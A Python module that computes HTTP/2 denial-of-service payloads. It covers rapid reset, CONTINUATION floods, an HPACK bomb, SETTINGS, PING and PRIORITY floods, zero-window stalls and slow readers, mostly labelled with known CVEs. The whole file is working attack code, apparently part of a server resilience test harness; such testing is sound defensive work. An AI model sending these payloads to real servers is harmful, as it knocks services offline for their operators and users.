"""The abuses of HTTP/2 as bytes: what one hostile client sends behind the preface, computed before it is sent.

Each function makes an `Attack`. Stream identifiers go up as they must and heads are well formed unless that is the
abuse, so that nothing but the abuse itself is what a server can object to. The names of CVEs are those under which the
abuse became known.
"""
import dataclasses

from h2_frames import (CONTINUATION, DATA, ENABLE_PUSH, END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, HEADERS,
                       INITIAL_WINDOW_SIZE, PAYLOAD_BYTES_MAX, PING, PRIORITY, WINDOW_MAX, field, frame, head, reset,
                       settings, window_update)

STREAMS = 100_000
OPEN_STREAMS = 100
PLENTY = settings((ENABLE_PUSH, 0), (INITIAL_WINDOW_SIZE, WINDOW_MAX)) + window_update(0, WINDOW_MAX - 65_535)
# What the origin has: SINK waits for the body of a POST before it answers.
SHORT, LARGE, CACHED_SHORT, CACHED_LARGE, SINK = "/1k", "/200k", "/cached/1k", "/cached/200k", "/sink"


@dataclasses.dataclass(frozen=True)
class Attack:
    """`opening`, SETTINGS first, is sent once per connection, then `body`, of `frames` frames: again and again where it is
    `endless`, else a new connection is opened behind it. A `held` one keeps the connection and sends `alive` ten times a
    second. `reads`: takes what the server sends. `connections` at once. `judged`: the expectations hold for it."""
    body: bytes
    frames: int
    opening: bytes = PLENTY
    endless: bool = False
    reads: bool = True
    held: bool = False
    alive: bytes = b""
    connections: int = 1
    judged: bool = True


def per_stream(make, count=STREAMS, first=1):
    """What `make(stream)` returns for so many streams, one behind the other."""
    return b"".join(make(stream) for stream in range(first, first + 2 * count, 2))


def get(stream, block):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def post(stream, block):
    """A request that says a body will follow."""
    return frame(HEADERS, END_HEADERS, stream, block)


def repeated(piece, least=65_536, **more):
    count = -(-least // len(piece))
    return Attack(piece * count, count, endless=True, **more)


def on_streams(tls, after, path=SHORT):
    """A request on a new stream, then what `after(stream)` makes of it."""
    block = head(path, tls)
    return Attack(per_stream(lambda stream: get(stream, block) + after(stream)), 2 * STREAMS)


def rapid_reset(tls):
    """CVE-2023-44487: ask and cancel."""
    return on_streams(tls, reset)


def rapid_reset_cached(tls):
    return on_streams(tls, reset, CACHED_SHORT)


def reset_by_zero_update(tls):
    """CVE-2025-8671 (MadeYouReset): an increment of 0 is a stream error (RFC 9113 §6.9)."""
    return on_streams(tls, lambda stream: window_update(stream, 0))


def reset_by_overflow(tls):
    return on_streams(tls, lambda stream: window_update(stream, WINDOW_MAX))


def reset_by_late_data(tls):
    """DATA on a half-closed stream (RFC 9113 §5.1)."""
    return on_streams(tls, lambda stream: frame(DATA, END_STREAM, stream, b"x"))


def reset_by_late_headers(tls):
    block = head(SHORT, tls)
    return on_streams(tls, lambda stream: get(stream, block))


def reset_by_priority_length(tls):
    """PRIORITY of 4 bytes is a stream error (RFC 9113 §6.3)."""
    return on_streams(tls, lambda stream: frame(PRIORITY, 0, stream, bytes(4)))


def reset_by_own_dependency(tls):
    """A stream that depends on itself was a stream error in RFC 7540 §5.3.1."""
    return on_streams(tls, lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x00"))


def reset_by_content_length(tls):
    """More DATA than Content-Length says: malformed (RFC 9113 §8.1.1)."""
    block = head(SINK, tls, "POST", more=field("content-length", "1"))
    return Attack(per_stream(lambda stream: post(stream, block) + frame(DATA, END_STREAM, stream, b"xx")), 2 * STREAMS)


def malformed_heads(tls):
    """An upper-case name (RFC 9113 §8.2.1), on stream after stream."""
    block = head(SHORT, tls, more=field("Upper", "x"))
    return Attack(per_stream(lambda stream: get(stream, block)), STREAMS)


def over_concurrency(tls):
    """Heads without end on ever more streams: each above the limit must be refused (RFC 9113 §5.1.2)."""
    block = head(SINK, tls, "POST")
    return Attack(per_stream(lambda stream: post(stream, block)), STREAMS)


def continuation_flood(tls):
    """CVE-2024-27316 and its sisters: a head that never ends, one small field per frame."""
    opening = PLENTY + frame(HEADERS, END_STREAM, 1, head(SHORT, tls))
    return repeated(frame(CONTINUATION, 0, 1, field("x-more", "y")), opening=opening)


def continuation_large(tls):
    opening = PLENTY + frame(HEADERS, END_STREAM, 1, head(SHORT, tls))
    block = field("cookie", "c" * 4_000)
    return repeated(frame(CONTINUATION, 0, 1, block * (PAYLOAD_BYTES_MAX // len(block))), opening=opening)


def continuation_empty(tls):
    opening = PLENTY + frame(HEADERS, END_STREAM, 1, head(SHORT, tls))
    return repeated(frame(CONTINUATION, 0, 1), opening=opening)


def data_empty(tls):
    """CVE-2019-9518: frames of no bytes that end nothing."""
    return repeated(frame(DATA, 0, 1), opening=PLENTY + post(1, head(SINK, tls, "POST")))


def data_padding(tls):
    """DATA of nothing but padding: flow control moves, the body does not."""
    return repeated(frame(DATA, 0x8, 1, b"\x00"), opening=PLENTY + post(1, head(SINK, tls, "POST")))


def headers_empty(tls):
    """Heads of no fields, each on a new stream."""
    return Attack(per_stream(lambda stream: get(stream, b"")), STREAMS)


def trailers_empty(tls):
    """Trailers of no fields that do not end the stream."""
    return repeated(frame(HEADERS, END_HEADERS, 1), opening=PLENTY + post(1, head(SINK, tls, "POST")))


def settings_flood(tls):
    """CVE-2019-9515: each asks for an acknowledgement."""
    return repeated(settings())


def settings_unread(tls):
    return repeated(settings(), reads=False)


def settings_many(tls):
    """Frames full of settings, the same again and again."""
    return repeated(settings(*[(INITIAL_WINDOW_SIZE, 65_535 + n) for n in range(2_000)]))


def settings_window(tls):
    """Each change of the initial window touches every open stream (RFC 9113 §6.9.2)."""
    block = head(SINK, tls, "POST")
    opening = settings((INITIAL_WINDOW_SIZE, 0)) + per_stream(lambda stream: post(stream, block), OPEN_STREAMS)
    return repeated(settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 0)), opening=opening)


def ping_flood(tls):
    """CVE-2019-9512."""
    return repeated(frame(PING, 0, 0, b"ringring"))


def ping_unread(tls):
    """The answers are not read: they must not pile up."""
    return repeated(frame(PING, 0, 0, b"ringring"), reads=False)


def priority_flood(tls):
    """CVE-2019-9513: ever new relations between idle streams."""
    return Attack(per_stream(lambda stream: frame(PRIORITY, 0, stream, bytes((0, 0, 0, 0, 16)))), STREAMS)


def priority_repeated(tls):
    return repeated(frame(PRIORITY, 0, 3, bytes((0, 0, 0, 1, 16))), opening=PLENTY + post(1, head(SINK, tls, "POST")))


def priority_update_flood(tls):
    """The frame of RFC 9218 §7.1."""
    return repeated(frame(0x10, 0, 0, (1).to_bytes(4, "big") + b"u=1"), opening=PLENTY + post(1, head(SINK, tls, "POST")))


def unknown_frames(tls):
    """Types that nobody knows are ignored (RFC 9113 §4.1), but not without end."""
    return repeated(frame(0xEE, 0, 0))


def update_flood(tls):
    """The connection's window, a byte at a time."""
    return repeated(window_update(0, 1), opening=settings())


def update_flood_streams(tls):
    block = head(SINK, tls, "POST")
    opening = settings() + per_stream(lambda stream: post(stream, block), OPEN_STREAMS)
    piece = per_stream(lambda stream: window_update(stream, 1), OPEN_STREAMS)
    return dataclasses.replace(repeated(piece, opening=opening), frames=OPEN_STREAMS * -(-65_536 // len(piece)))


def dribble(tls):
    """CVE-2019-9511: large answers fetched a byte at a time, each worth a frame."""
    block = head(CACHED_LARGE, tls)
    opening = (settings((INITIAL_WINDOW_SIZE, 0)) + window_update(0, WINDOW_MAX - 65_535)
               + per_stream(lambda stream: get(stream, block), OPEN_STREAMS))
    piece = per_stream(lambda stream: window_update(stream, 1), OPEN_STREAMS)
    return dataclasses.replace(repeated(piece, opening=opening), frames=OPEN_STREAMS * -(-65_536 // len(piece)))


def hpack_bomb(tls):
    """CVE-2016-6581: a field of 4,000 bytes is remembered once, then named 16,000 times in a frame."""
    first = head(SHORT, tls, more=field("x-bomb", "b" * 3_900, remembered=True))
    bomb = head(SHORT, tls) + b"\xbe" * 16_000
    return Attack(per_stream(lambda stream: get(stream, bomb), 1_000, 3), 1_000, opening=PLENTY + get(1, first))


def hpack_churn(tls):
    """Every field is remembered, so that the table turns over for each of them: work without use."""
    many = head(SHORT, tls) + b"".join(field(f"x{n}", "", remembered=True) for n in range(2_000))
    return Attack(per_stream(lambda stream: get(stream, many), 1_000), 1_000)


def table_updates(tls):
    """A block full of changes of the table's size (RFC 7541 §6.3)."""
    updates = b"\x20\x3f\xe1\x1f" * 4_000
    return Attack(per_stream(lambda stream: get(stream, updates + head(SHORT, tls)), 1_000), 1_000)


def table_settings(tls):
    """The largest table a server may use towards us goes up and down (RFC 9113 §6.5.2)."""
    return repeated(settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 2**32 - 1)))


def head_list_large(tls):
    """A megabyte of fields per request, well formed."""
    block = field("cookie", "c" * 4_000)
    piece = block * (PAYLOAD_BYTES_MAX // len(block))

    def request(stream):
        more = frame(CONTINUATION, 0, stream, piece) * 63 + frame(CONTINUATION, END_HEADERS, stream, piece)
        return frame(HEADERS, END_STREAM, stream, head(SHORT, tls)) + more
    return Attack(per_stream(request, 20), 20 * 65)


def head_fields_many(tls):
    """As many tiny fields as one frame holds."""
    block = head(SHORT, tls) + field("a", "") * 4_000
    return Attack(per_stream(lambda stream: get(stream, block), 1_000), 1_000)


def stall(path, tls):
    block = head(path, tls)
    opening = settings((INITIAL_WINDOW_SIZE, 0))
    return Attack(per_stream(lambda stream: get(stream, block), 128), 128, opening=opening, held=True)


def zero_window(tls):
    """VSV00014, CVE-2019-9517: large answers are asked for and no window is given; proxied ones."""
    return stall(LARGE, tls)


def zero_window_cached(tls):
    return stall(CACHED_LARGE, tls)


def idle_streams(tls):
    """Requests whose bodies never come."""
    block = head(SINK, tls, "POST")
    return Attack(per_stream(lambda stream: post(stream, block), 128), 128, held=True, connections=32)


def idle_connections(tls):
    """Connections that say nothing behind the SETTINGS."""
    return Attack(b"", 0, opening=settings(), held=True, connections=500, judged=False)


def slow_reader(tls):
    """All windows open, nothing read from the socket, and PINGs so that it is never silent."""
    block = head(LARGE, tls)
    body = per_stream(lambda stream: get(stream, block), 100)
    return Attack(body, 100, held=True, reads=False, alive=frame(PING, 0, 0, b"i'm here"))


def slow_reader_cached(tls):
    block = head(CACHED_LARGE, tls)
    body = per_stream(lambda stream: get(stream, block), 100)
    return Attack(body, 100, held=True, reads=False, alive=frame(PING, 0, 0, b"i'm here"))


ATTACKS = {make.__name__.replace("_", "-"): make for make in (
    rapid_reset, rapid_reset_cached, reset_by_zero_update, reset_by_overflow, reset_by_late_data,
    reset_by_late_headers, reset_by_priority_length, reset_by_own_dependency, reset_by_content_length, malformed_heads,
    over_concurrency, continuation_flood, continuation_large, continuation_empty, data_empty, data_padding, headers_empty,
    trailers_empty, settings_flood, settings_unread, settings_many, settings_window, ping_flood, ping_unread,
    priority_flood, priority_repeated, priority_update_flood, unknown_frames, update_flood, update_flood_streams, dribble,
    hpack_bomb, hpack_churn, table_updates, table_settings, head_list_large, head_fields_many, zero_window,
    zero_window_cached, idle_streams, idle_connections, slow_reader, slow_reader_cached)}
